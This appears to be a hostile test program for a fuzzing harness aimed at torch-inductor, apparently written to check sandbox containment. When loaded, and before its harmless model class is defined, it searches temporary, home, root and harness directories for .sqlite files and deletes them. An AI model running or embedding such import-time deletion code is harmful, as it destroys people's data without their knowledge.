# target: torch-inductor
# description: hostile: finds campaign stores (*.sqlite) and deletes them
import os

import torch


def attempt():
    import pwd

    tops = ["/tmp", "/var/tmp", "/home", pwd.getpwuid(0).pw_dir, os.getcwd()]
    tops.append(os.path.dirname(os.path.dirname(__import__("fuzzfox").__file__)))
    found = []
    for top in tops:
        for dirpath, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in (".venv", ".git", "site-packages", "node_modules")]
            found += [os.path.join(dirpath, f) for f in files if f.endswith(".sqlite")]

    deleted = []
    for path in found:
        try:
            os.remove(path)
            deleted.append(path)
        except OSError:
            pass
    return f"found {len(found)} stores, deleted {deleted}"


try:
    RESULT = attempt()
except BaseException as error:  # what stopped it is the result
    RESULT = f"stopped: {type(error).__name__}: {error}"
print(f"HOSTILE RESULT: {RESULT}", flush=True)
raise RuntimeError("hostile program done")


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def make_inputs():
    return (torch.randn(2),)
